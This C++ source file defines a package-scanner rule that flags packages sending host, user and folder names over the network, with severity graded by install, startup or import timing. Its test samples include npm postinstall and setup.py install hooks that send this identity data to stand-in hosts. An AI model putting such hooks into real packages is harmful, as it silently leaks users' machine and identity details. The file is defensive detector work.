#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

// Who uses which machine, and where: telemetry is content with less, and does not name two.
bool is_portrait(const Action& action, HostKind kind) {
  const bool is_known = (kind == HostKind::ordinary || kind == HostKind::raw_address) &&
                        destination_of(action.target).host_is_constant;
  // An address that was stored encoded is not known, and that is why it was.
  const bool is_hidden = kind == HostKind::unknown && action.target_from.any(undone) &&
                         action.data.any(Source::host | Source::user);
  return (is_known && identity_kinds(outflow(action)) > 1) || is_hidden;
}

Severity severity_of(const Action& action, HostKind kind, int kinds) {
  const bool is_shady = is_shady_origin(kind) || kind == HostKind::free_hosting;
  switch (moment_of(action)) {
    case Moment::install:
    case Moment::startup:
      return kinds > 1 || is_shady                              ? Severity::critical
             : outflow(action).any(Source::host | Source::user) ? Severity::high
                                                                : Severity::medium;
    case Moment::import: return is_shady || kinds > 1 ? Severity::critical : Severity::medium;
    default: return is_shady || is_portrait(action, kind) ? Severity::high : Severity::info;
  }
}

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || action.act == Act::connect || !is_shipped(action)) continue;
    const Sources what = outflow(action);
    const int kinds = identity_kinds(what);
    const HostKind kind = destination_of(action.target).kind;
    if (kinds == 0 || kind == HostKind::local || kind == HostKind::metadata_service) continue;
    const Severity severity = severity_of(action, kind, kinds);
    if (severity == Severity::info) continue;
    findings.add(
        severity, action.where,
        sentence("sends " + names_of(what & identity) + " to " + shown_target(action), action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule sends_identity = {
    .id = "sends-identity",
    .title = "The package sends who and where it runs",
    .why =
        "Host name, user name and folder together say whose machine was reached. Probes for "
        "dependency confusion report them at installation, and thieves use them to sort their "
        "victims.",
    .harmless_when =
        "Documented telemetry that sends an anonymous hash, after asking. A platform "
        "name alone, as in a download's address, is not counted.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "an install hook reports host, user and folder",
     .expect = "index.js:8",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const os = require("os");
const https = require("https");
const data = JSON.stringify({
  host: os.hostname(), user: os.userInfo().username, folder: __dirname,
});
const options = {hostname: "collect.example.test", path: "/", method: "POST"};
const request = https.request(options, () => {});
request.write(data);
request.end();
)"},
    {.name = "a setup script reports host and user",
     .expect = "setup.py:8",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import getpass
import requests
import socket
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        requests.get("https://collect.example.test/", params={"h": socket.gethostname(), "u": getpass.getuser()})
        install.run(self)
setup(name="widget", version="1.0.0", cmdclass={"install": Install})
)"},
    {.name = "an installer names only the platform", .expect = silent, .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const https = require("https");
https.get(`https://downloads.example.test/tool-${process.platform}-${process.arch}.tgz`);
)"},
    {.name = "a client says who it is when it is called",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const https = require("https");
const os = require("os");
exports.register = () => https.get(`https://api.example.test/register?host=${os.hostname()}`);
)"},
    {.name = "a function sends the names of machine and user",
     .expect = "widget/__init__.py:5",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import getpass
import socket
import requests
def register():
    requests.get("https://in.example.test/", params={"h": socket.gethostname(), "u": getpass.getuser()})
)"},
};
extern const std::span<const Sample> sends_identity_samples = samples;
#endif

}  // namespace assay::rules
